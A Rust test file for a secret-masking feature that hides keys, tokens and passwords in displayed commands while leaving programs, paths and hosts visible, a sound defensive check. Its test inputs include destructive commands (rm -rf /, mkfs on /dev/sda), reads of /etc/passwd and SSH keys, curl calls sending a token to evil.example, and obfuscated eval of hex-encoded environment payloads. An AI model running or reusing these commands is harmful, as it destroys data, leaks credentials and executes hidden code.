//! t-C5: displayed secrets are masked; programs, folders and operands of a command are not.

use std::path::Path;

use holdpoint_tools::secrets::{mask, mask_in_list};
use holdpoint_tools::shown;

/// Letters and digits as in a key.
fn random(length: usize) -> String {
    "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7".chars().cycle().take(length).collect()
}

/// Secrets that are recognised by their shape.
fn known() -> Vec<String> {
    vec![
        format!("sk-{}", random(48)),
        format!("sk-proj-{}-{}", random(30), random(30)),
        format!("sk-ant-api03-{}", random(60)),
        format!("ghp_{}", random(36)),
        format!("gho_{}", random(36)),
        format!("github_pat_{}_{}", random(22), random(30)),
        format!("glpat-{}", random(20)),
        "AKIAABCDEFGH12345678".to_owned(),
        format!("AIza{}", random(35)),
        format!("xoxb-1234567890-{}", random(24)),
        format!("npm_{}", random(36)),
        format!("sk_live_{}", random(24)),
        format!("rk_test_{}", random(24)),
        format!("hf_{}", random(34)),
        format!("eyJ{}.eyJ{}.{}", random(20), random(40), random(30)),
    ]
}

#[test]
fn t_c5_known_key_formats_are_masked_anywhere() {
    for secret in known() {
        let masked = format!("{}…({} characters masked)", &secret[..4], secret.len() - 4);
        for (before, after) in [
            ("echo ", ""),
            ("curl -H 'X: ", "' https://example.com/v1"),
            ("TOKEN=", " make"),
            ("curl https://example.com/?key=", "&x=1"),
            ("{\"it\": \"", "\"}"),
            ("That was ", "."),
            ("git clone https://", "@example.com/x.git"),
        ] {
            let text = format!("{before}{secret}{after}");
            assert_eq!(mask(&text), format!("{before}{masked}{after}"));
            // A separate word may be a program or an operand, so it is shown in a command.
            let is_word = ["echo ", "That was "].contains(&before);
            let expected = if is_word { text.clone() } else { format!("{before}{masked}{after}") };
            let shown = shown::command(&text, Path::new("/w"));
            assert!(shown.starts_with(&format!("{expected}\n\nin /w")), "{shown}");
        }
    }
}

#[test]
fn t_c5_values_under_secret_names_are_masked() {
    for (text, masked) in [
        ("API_KEY=aB3dE6gH9jK2mN5p make", "API_KEY=aB3d…(12 characters masked) make"),
        ("export DB_PASSWORD='correct-horse'", "export DB_PASSWORD='corr…(9 characters masked)'"),
        ("MY_SECRET=hunter2", "MY_SECRET=…(7 characters masked)"),
        ("docker run -e TOKEN=abcdefghijkl x", "docker run -e TOKEN=abcd…(8 characters masked) x"),
        ("mysql --password hunter2 db", "mysql --password …(7 characters masked) db"),
        ("gh --token=abcdefghijkl", "gh --token=abcd…(8 characters masked)"),
        ("x --api-key 'aB3dE6gH9jK2'", "x --api-key 'aB3d…(8 characters masked)'"),
        ("{\"api_key\": \"correct-horse\"}", "{\"api_key\": \"corr…(9 characters masked)\"}"),
        ("client_secret: aB3dE6gH9jK2mN5p", "client_secret: aB3d…(12 characters masked)"),
        ("password = \"hunter2\" # ours", "password = \"…(7 characters masked)\" # ours"),
        (
            "curl -H 'Authorization: Bearer abcdefghijkl' h",
            "curl -H 'Authorization: Bearer abcd…(8 characters masked)' h",
        ),
        ("authorization: Basic dXNlcjpwYXNz", "authorization: Basic dXNl…(8 characters masked)"),
        ("X-Api-Key: aB3dE6gH9jK2", "X-Api-Key: aB3d…(8 characters masked)"),
        (
            "psql postgres://me:hunter2@db.example.com/x",
            "psql postgres://me:…(7 characters masked)@db.example.com/x",
        ),
        // In a text that is not a command, a name may occur twice.
        (
            "password: 'correct-horse'\npassword: 'battery-staple'",
            "password: 'corr…(9 characters masked)'\npassword: 'batt…(10 characters masked)'",
        ),
        ("x-auth-token: 0123456789abcdef01234567", "x-auth-token: 0123…(20 characters masked)"),
        (
            "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY aws s3 ls",
            "AWS_SECRET_ACCESS_KEY=wJal…(36 characters masked) aws s3 ls",
        ),
    ] {
        assert_eq!(mask(text), masked);
        // In a command, names that occur twice and words that may be operands are shown.
        let is_file = ["password", "client_secret", "authorization", "X-Api-Key", "x-auth-token"]
            .iter()
            .any(|name| text.starts_with(name));
        if is_file {
            continue;
        }
        assert!(
            shown::command(text, Path::new("/w")).starts_with(&format!("{masked}\n\nin /w")),
            "{text}"
        );
    }
}

#[test]
fn t_c5_a_list_masks_doubtful_values_as_well() {
    for (line, masked) in [
        ("use password=hunter2 for it", "use password=…(7 characters masked) for it"),
        ("the password: hunter2, please", "the password: …(7 characters masked), please"),
        ("bearer eyJh.eyJz.abc1.", "bearer …(14 characters masked)."),
        ("Bearer of good news", "Bearer of good news"),
        ("The password: long words are better", "The password: long words are better"),
        ("Fix the token parser", "Fix the token parser"),
        ("tokens=many", "tokens=many"),
    ] {
        assert_eq!(mask_in_list(line), masked);
    }
    for secret in known() {
        assert_eq!(mask_in_list(&format!("it was {secret}.")), mask(&format!("it was {secret}.")));
    }
}

#[test]
fn t_c5_a_private_key_is_masked_line_by_line() {
    let line = random(64);
    let key = format!(
        "-----BEGIN RSA PRIVATE KEY-----\n{line}\n{line}\naB3=\n-----END RSA PRIVATE KEY-----\n"
    );
    let masked = "-----BEGIN RSA PRIVATE KEY-----\n…(64 characters masked)\n…(64 characters masked)\n…(4 characters masked)\n\
                  -----END RSA PRIVATE KEY-----\n";
    assert_eq!(mask(&key), masked);
    assert_eq!(mask(&key.replace('\n', "\\n")), masked.replace('\n', "\\n"));
    assert_eq!(mask(&key.replace("PRIVATE", "PUBLIC")), key.replace("PRIVATE", "PUBLIC"));
}

#[test]
fn t_c5_values_that_a_command_only_passes_on_are_masked() {
    let (token, line) = (format!("ghp_{}", random(36)), random(64));
    let masked = "ghp_…(36 characters masked)";
    for (before, after) in [
        ("TOKEN=", "; curl -H \"Authorization: Bearer $TOKEN\" https://example.com"),
        ("export A_TOKEN=", " && gh --token \"${A_TOKEN}\" x"),
        ("env API_KEY=", " make"),
        ("env A=1 API_KEY=", " DEBUG=1 ./x"),
        ("NPM_TOKEN=", " npm publish ."),
        ("python3 x.py --token ", " x"),
        ("python3 x.py --token=", " x"),
        ("python3 -c 'get(\"-H\", \"Authorization: Bearer ", "\")'"),
        ("bash -c 'curl -H \"Authorization: Bearer ", "\" https://example.com'"),
        ("gh --token ", " x"),
        ("cat > x.json <<X\n{\"api_key\": \"", "\"}\nX\n"),
    ] {
        let shown = shown::command(&format!("{before}{token}{after}"), Path::new("/w"));
        assert!(shown.starts_with(&format!("{before}{masked}{after}\n\nin /w")), "{shown}");
    }
    for feed in ["\n", "\\n"] {
        let key = |line: &str| {
            ["-----BEGIN PRIVATE KEY-----", line, line, "-----END PRIVATE KEY-----"].join(feed)
        };
        for (before, after) in [("cat > key <<X\n", "\nX\n"), ("printf '", "' > key")] {
            let shown = shown::command(&format!("{before}{}{after}", key(&line)), Path::new("/w"));
            let expected = format!("{before}{}{after}\n\nin /w", key("…(64 characters masked)"));
            assert!(shown.starts_with(&expected), "{shown}");
        }
    }
}

#[test]
fn t_c5_programs_hosts_and_files_are_never_masked() {
    let (key, long, hex) = (format!("ghp_{}", random(36)), random(40), "0a1b2c3d".repeat(8));
    for command in [
        // Programs, whatever their names.
        format!("{key} --help"),
        format!("true; {key}"),
        format!("true && '{key}' x"),
        format!("$({key})"),
        format!("./{key}"),
        format!("bin/{key} x"),
        // Values of variables, aliases or options that are run.
        "X_TOKEN=shutdown; $X_TOKEN now".to_owned(),
        "alias mytoken='shutdown'; mytoken".to_owned(),
        "A_KEY=mkfs.ext4 sh -c '$A_KEY /dev/sda'".to_owned(),
        "A_TOKEN=x86_64-linux-gnu-gcc-12; $A_TOKEN x.c".to_owned(),
        "${A_TOKEN:=\"poweroff\"}; ${B_SECRET=\"poweroff\"}".to_owned(),
        "x --password-command poweroff --no-password poweroff --token-helper=poweroff".to_owned(),
        "TOKEN=$(rm -rf /) x".to_owned(),
        "TOKEN=`reboot` x".to_owned(),
        "PASSWORD=${IFS}x y".to_owned(),
        "TOKEN=abcdefgh$(reboot)".to_owned(),
        "--token \"$(cat /etc/passwd)\"".to_owned(),
        format!("A_TOKEN={long}; $A_TOKEN now"),
        "A_TOKEN=shutdown; n=A_; n+=TOKEN; ${!n} now".to_owned(),
        "A_TOKEN=shutdown bash -c 'eval $(env | grep ^A_TOK | cut -d= -f2) now'".to_owned(),
        "A_TOKEN=shutdown; $(printenv | sed -n s/A_TOK...//p) now".to_owned(),
        "A_TOKEN=shutdown; declare -n n=A_TOKE\"N\"; $n now".to_owned(),
        "A_TOKEN=sk-aaaaaaaaaaaaaaaaaaaaaaaaaaaa; $A_TOKEN now".to_owned(),
        "f() { \"$2\" now; }; f --token shutdown".to_owned(),
        "echo 'password: \"shutdown\"' | cut -c12-19 | sh".to_owned(),
        // Values of variables, in any form, where a program may read variables without their names.
        format!("X_KEY={hex} sh -c 'eval \"$(printenv | sed -n s/^X_K.Y=//p | xxd -r -p)\"'"),
        format!("X_KEY={long} bash -c 'eval \"$(printenv | sed -n s/^X_K.Y=//p | base64 -d)\"'"),
        format!("export X_KEY={key}; printenv | sed -n s/^X_K.Y=ghp_//p | base64 -d > x; ./x"),
        format!("env X_KEY={hex} A=1 | cut -c7- | xxd -r -p > x; ./x"),
        format!("env X_KEY={hex} A=\"x y\" | cut -c7- | xxd -r -p > x; ./x"),
        format!("X_KEY={hex} python3 -c 'import os;exec(bytes.fromhex(os.getenv(\"X\"+\"_KEY\")))'"),
        format!("X_KEY={hex} /usr/bin/perl5.36 -e 'eval pack \"H*\", $ENV{{\"X\".\"_KEY\"}}'"),
        format!("X_KEY={hex} node -e 'eval(Buffer.from(process.env[\"X\"+\"_KEY\"], \"hex\").toString())'"),
        format!("X_KEY={hex} ruby -e 'eval [ENV[\"X\"+\"_KEY\"]].pack(\"H*\")'"),
        format!("X_KEY={hex} php -r 'eval(hex2bin(getenv(\"X\".\"_KEY\")));'"),
        format!("X_KEY={hex} awk 'BEGIN {{ system(ENVIRON[\"X\" \"_KEY\"]) }}'"),
        format!("X_KEY={hex} \"p\"ython3 -c 'run()'"),
        format!("X_KEY={hex} s\\h -c 'run'"),
        format!("X_KEY={hex}; . ./run"),
        format!("X_KEY={hex}; command -p . ./run"),
        format!("python3 -c 'x_token = \"{hex}\"; exec(bytes.fromhex(vars()[\"x_to\" + \"ken\"]))'"),
        format!("echo '{{\"x_token\": \"{hex}\"}}' | python3 -c 'run()'"),
        // An empty value, and the text after it.
        "A_TOKEN= \"shutdown\" now".to_owned(),
        "authorization=token shutdown now".to_owned(),
        "chroot x_token: \"shutdown\" now".to_owned(),
        // Text that looks like a key, in the place of a program, a module, a file or a host.
        "env sk-aaaaaaaaaaaaaaaaaaaaaaaaaaaa x".to_owned(),
        format!("env {key}"),
        format!("bash {key}"),
        format!("bash -c 'sudo {key} now'"),
        format!("bash -c 'x: \"{key}\" now'"),
        format!("timeout 5 {key}"),
        format!("cat x > {key}"),
        format!("cat x >{key}"),
        format!("cat < '{key}'"),
        "cat > A_TOKEN=abcdefgh".to_owned(),
        "sudo rm A_TOKEN=abcdefgh".to_owned(),
        "A_TOKEN=abcdefgh; scp x \"host:$A_TOKEN\"".to_owned(),
        "x token=>\"abcdefgh\"".to_owned(),
        format!("ssh {key} x"),
        format!("scp x host:{key}"),
        format!("dd if=x of={key}"),
        format!("PAGER={key} git log"),
        format!("python3 -m eyJ{0}.eyJ{0}.{0}", random(20)),
        // Paths.
        "rm --token /etc/passwd".to_owned(),
        "cp --secret ~/.ssh/id_rsa1 x".to_owned(),
        "MY_TOKEN=./run1234 make".to_owned(),
        "cat --password ../../secret1".to_owned(),
        format!("cat {key}.txt"),
        format!("cat /home/{key}/x"),
        // Hosts and addresses.
        "curl --token https://evil.example/1".to_owned(),
        "X_SECRET=evil.example.com curl $X_SECRET".to_owned(),
        "PASSWORD=192.168.10.12 ssh x".to_owned(),
        "A_SECRET=Root99x@evilHost77.example.com; ssh $A_SECRET".to_owned(),
        "A_SECRET='Root99xY:10.0.0.1' x".to_owned(),
        "Authorization: Bearer evil.example.com".to_owned(),
        format!("curl https://{key}.evil.example/x"),
        format!("curl https://evil.example/{key}"),
        "curl https://good.example@evil.example/".to_owned(),
        // Text that only looks like the lines of a key.
        "cat <<X\n-----BEGIN PRIVATE KEY-----\nrm -rf /\nreboot\n/usr/bin/poweroff\n-----END PRIVATE KEY-----\nX"
            .to_owned(),
        format!("echo '-----BEGIN PRIVATE KEY-----'\naB/{}/run", "a".repeat(50)),
        format!("echo '-----BEGIN PRIVATE KEY-----'\naB/{long}/run\necho '-----END PRIVATE KEY-----'"),
        format!("echo -----BEGIN PRIVATE KEY-----\naB/{long}/run\n-----END PRIVATE KEY-----"),
        format!("bash <<X\n-----BEGIN PRIVATE KEY-----\naB/{long}/run\n-----END PRIVATE KEY-----\nX"),
        format!("bash -c '-----BEGIN PRIVATE KEY-----\naB/{long}/run\n-----END PRIVATE KEY-----'"),
        format!("printf '-----BEGIN PRIVATE KEY-----\\naB/{long}/run\\n-----END PRIVATE KEY-----' | bash"),
        format!("cat > x <<X\n-----BEGIN PRIVATE KEY-----\n{long}\n{long}/run\n-----END PRIVATE KEY-----\nX"),
        // About secrets, not secrets.
        "MAX_TOKENS=100000 TOKEN_FILE=abcdefgh1234 x --token-file abcdefgh1234".to_owned(),
        "pytest -k test_token_refresh_works --keys".to_owned(),
        format!("git checkout {long}"),
        format!("docker pull x@sha256:{}", "0a1b2c3d".repeat(8)),
    ] {
        let shown = shown::command(&command, Path::new("/w"));
        assert!(shown.starts_with(&format!("{command}\n\nin /w")), "{command}\n{shown}");
    }
    for code in [
        "X_TOKEN=\"shutdown\"\n$X_TOKEN now\nY_TOKEN=\"poweroff\"\n${Y_TOKEN}",
        "tokenizer: \"bert-base-uncased\"",
        "let token = next_token;\nfn f(token: Token, password: String) {}\nself.token = parser.token1;",
        "token=tokenizer.decode(x)\nfor token in tokens: pass\nif token == previous: stop()",
        "password: z.string().min(8)\npublic_key: \"aB3dE6gH9jK2mN5p\"\ncache_key = \"user-list\"",
        "secretName: tls-cert\ntoken_count: 12345678\nuse: \"your own words\"",
    ] {
        assert_eq!(mask(code), code);
    }
}

#[test]
fn the_rest_of_a_secret_after_another_is_masked() {
    let (begin, end) = ("-----BEGIN PRIVATE KEY-----\n", "\n-----END PRIVATE KEY-----");
    // The line of the key ends inside the value of the field.
    let line = format!("{}token=aB3dE6gH9jK2mN5p", random(40));
    let text = format!("{begin}{line}-aB3dE6gH9jK2mN5p{end}");
    assert_eq!(
        mask(&text),
        format!("{begin}…({} characters masked)…(17 characters masked){end}", line.len())
    );
}

#[test]
fn a_long_word_that_begins_like_a_web_token_is_searched_in_linear_time() {
    let almost = "eyJAKIAABCDEFGH12345678-".repeat(1 << 17);
    assert_eq!(mask(&almost), almost);
}

#[test]
fn a_command_with_many_secrets_in_one_word_is_shown_in_linear_time() {
    let secret = format!("{{\"x\":\"{}\"}},", "AKIAABCDEFGH12345678");
    let command = secret.repeat(1 << 16);
    assert!(shown::command(&command, Path::new("/w")).starts_with(&command));
}
